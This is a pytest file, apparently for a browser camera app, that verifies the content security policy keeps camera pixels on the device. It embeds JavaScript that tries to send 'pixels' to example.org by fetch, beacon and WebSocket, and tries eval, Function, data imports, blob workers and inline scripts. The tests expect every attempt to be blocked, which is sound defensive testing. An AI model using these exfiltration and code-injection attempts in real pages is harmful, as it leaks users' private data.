"""Nothing of the viewer leaves the device."""

from urllib.parse import urlsplit

import pytest

# A beacon says that it is on its way even where the policy stops it, so what counts is what the policy says.
PIXELS_OUT = """async () => {
  const stopped = [];
  document.addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) =>
    stopped.push(`${effectiveDirective} ${blockedURI}`));
  const tries = [
    () => fetch("https://example.org/fetch", { method: "POST", body: "pixels" }),
    () => navigator.sendBeacon("https://example.org/beacon", "pixels"),
    () => new WebSocket("wss://example.org/socket"),
  ];
  for (const attempt of tries) {
    try {
      await attempt();
    } catch {}
  }
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return stopped;
}"""

# `page.evaluate` comes in by the debugger, which no policy stops: this is a script of our own origin.
FROM_TEXT = """const tries = {
  eval: () => eval("1"),
  function: () => new Function("return 1")(),
  import: () => import("data:text/javascript,export default 1"),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = resolve;
    worker.onerror = reject;
  }),
  inline: () => new Promise((resolve, reject) => {
    const script = document.createElement("script");
    script.textContent = "document.documentElement.dataset.inline = 1";
    document.addEventListener("securitypolicyviolation", reject, { once: true });
    document.head.append(script);
    if (document.documentElement.dataset.inline) resolve();
  }),
};
const ran = [];
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await attempt();
    ran.push(name);
  } catch {}
}
window.triedFromText = { tried: Object.keys(tries), ran };
window.dispatchEvent(new Event("tried"));"""
LOAD = """() => new Promise((resolve) => {
  window.addEventListener("tried", () => resolve(window.triedFromText), { once: true });
  const script = document.createElement("script");
  Object.assign(script, { type: "module", src: "/from-text.js" });
  document.head.append(script);
})"""


@pytest.fixture
def watched(oivis_open, still_camera):
    """The page, not started yet, with every request and socket that it ever made."""
    requests, sockets = [], []

    def prepare(page):
        page.context.on("request", lambda request: requests.append(request))
        page.on("websocket", lambda socket: sockets.append(socket))

    return oivis_open(still_camera, prepare=prepare, debug=1), requests, sockets


def test_no_request_has_a_body_or_another_origin(watched):
    stage, requests, sockets = watched
    stage.start("camera")
    stage.wait_ready()
    stage.page.evaluate("async () => { await window.oivis.snapshot(); await window.oivis.do('next'); }")
    stage.watch(3)
    assert requests
    home = urlsplit(stage.url).netloc
    for request in requests:
        assert request.method in ("GET", "HEAD"), request.url
        assert request.post_data_buffer is None, request.url
        url = urlsplit(request.url)
        assert url.netloc == home or url.scheme in ("blob", "data"), request.url
    assert not sockets


def test_the_policy_stops_whoever_would_send_pixels_away(watched):
    stage, requests, _ = watched
    assert set(stage.page.evaluate(PIXELS_OUT)) == {
        "connect-src https://example.org/fetch",
        "connect-src https://example.org/beacon",
        "connect-src wss://example.org/socket",
    }
    assert all(request.failure for request in requests if "example.org" in request.url)


def test_the_policy_lets_no_text_become_code(oivis_open, still_camera):
    page = oivis_open(still_camera, debug=1).page
    script = {"body": FROM_TEXT, "content_type": "text/javascript"}
    page.route("**/from-text.js", lambda route: route.fulfill(**script))
    result = page.evaluate(LOAD)
    assert len(result["tried"]) == 5
    assert result["ran"] == []


@pytest.mark.server("its addresses")
def test_no_address_of_the_server_takes_a_body(watched):
    stage, _, _ = watched
    for path in ("/", "/ortweb", "/healthz", "/simple/", "/sw.js", "/anything"):
        answer = stage.page.request.post(stage.url + path, data=b"pixels")
        assert answer.status in (404, 405, 413)


def test_the_promise_stands_before_the_camera_is_asked_for(oivis_open, still_camera):
    stage = oivis_open(still_camera, debug=1)
    text = stage.page.locator("body").inner_text()
    assert "never leave" in text
    assert stage.page.evaluate("() => document.documentElement.dataset.oivis") == "idle"
